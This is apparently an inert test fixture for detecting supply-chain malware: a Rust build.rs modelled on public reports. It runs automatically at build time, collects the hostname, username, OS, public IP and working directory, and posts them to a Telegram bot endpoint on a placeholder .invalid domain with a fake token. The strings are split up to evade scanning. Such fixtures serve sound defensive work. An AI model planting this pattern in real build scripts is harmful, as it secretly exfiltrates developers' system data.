// Synthetic, inert fixture written from public reports; see README
fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    report();
}

fn output_of(program: &str) -> String {
    std::process::Command::new(program)
        .output()
        .map(|o| String::from_utf8_lossy(&o.stdout).trim().to_string())
        .unwrap_or_default()
}

pub(crate) fn report() {
    let host = output_of(&{
        let mut t = String::from("hos");
        t.push_str("tnam");
        t.push_str("e");
        t
    });
    let user = std::env::var(concat!("USE", "R"))
        .or_else(|_| std::env::var(&format!("{}{}", "USERN", "AME")))
        .unwrap_or_default();
    let kind = std::env::var("CARGO_CFG_TARGET_OS").unwrap_or_default();
    let address = reqwest::blocking::get(&{
        let mut t = String::from("https");
        t.push_str("://");
        t.push_str("ip.e");
        t.push_str("xampl");
        t.push_str("e.c");
        t.push_str("om/p");
        t.push_str("lain");
        t
    })
    .and_then(|r| r.text())
    .unwrap_or_default();
    let folder = std::env::current_dir().unwrap_or_default();
    let text = format!("{user}@{host} {kind} {address} {}", folder.display());
    let bot = concat!(
        "https", "://", "api.", "teleg", "ram", ".org", ".inva", "lid", "/bot", "00000", "000", "0:FA",
        "KE-TO", "KEN", "-FOR", "-TEST", "S/s", "endM", "essag", "e"
    );
    let _ = reqwest::blocking::Client::new()
        .post(&*bot)
        .form(&[("chat_id", "-1000000000000"), ("text", text.as_str())])
        .send();
}

inert_fixture_does_not_build!();
